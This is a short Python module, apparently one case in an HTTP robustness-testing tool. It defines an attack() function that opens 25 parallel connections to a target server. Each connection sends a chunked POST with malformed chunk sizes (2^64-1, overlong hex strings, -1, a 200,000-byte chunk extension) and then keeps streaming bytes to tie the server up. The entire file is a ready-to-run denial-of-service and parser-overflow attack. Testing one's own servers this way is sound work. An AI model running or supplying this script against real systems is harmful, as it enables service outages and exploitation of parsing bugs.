"""Chunks that claim 2^64-1 bytes, more digits than a number has, and extensions without end."""

import asyncio

from wire.http1 import request
from wire.link import link

SIZES = [b"ffffffffffffffff\r\n", b"f" * 200 + b"\r\n", b"-1\r\n", b"7fffffffffffffff\r\n", b"1;" + b"x" * 200_000]


async def attack(target):
    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                it.read_away()
                await it.send(request("POST", "/upload", [("transfer-encoding", "chunked")]))
                await it.send(SIZES[number % len(SIZES)])
                while target.goes_on() and not it.is_closed:
                    await it.send(bytes(1000))
                    await asyncio.sleep(0.02)

    await target.lanes(25, lane)
